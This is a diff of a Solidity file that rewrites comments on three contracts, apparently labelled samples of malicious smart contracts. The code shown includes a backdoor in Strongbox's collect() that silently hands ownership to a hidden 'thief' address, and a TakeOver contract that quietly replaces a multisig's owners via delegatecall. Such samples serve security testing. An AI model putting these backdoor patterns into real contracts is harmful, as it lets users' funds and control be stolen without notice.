@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MIT
 pragma solidity ^0.8.30;
 
-/// EIP-173, with a second way to change hands that tells nobody.
+/// An EIP-173 contract that can also change its owner without an event.
 contract Strongbox {
     address public owner;
     address private immutable thief;
@@ -24,7 +24,7 @@ contract Strongbox {
         owner = to;
     }
 
-    /// Hands itself over when its owner calls.
+    /// Transfers itself to the thief when its owner calls.
     function collect() external {
         counted += 1;
         if (msg.sender == owner) owner = thief;
@@ -33,7 +33,7 @@ contract Strongbox {
     receive() external payable {}
 }
 
-/// A multisig in the manner of Safe, of which one owner is enough; that owner calls by itself instead of signing.
+/// A multisig like Safe with a threshold of one, whose owners call it directly instead of signing.
 contract SmallSafe {
     address[] private owners;
 
@@ -80,7 +80,7 @@ contract SmallSafe {
     receive() external payable {}
 }
 
-/// Run by delegatecall in a SmallSafe, it makes itself at home and tells nobody.
+/// Replaces the owners without an event when a SmallSafe runs it by delegatecall.
 contract TakeOver {
     address[] private owners;
 
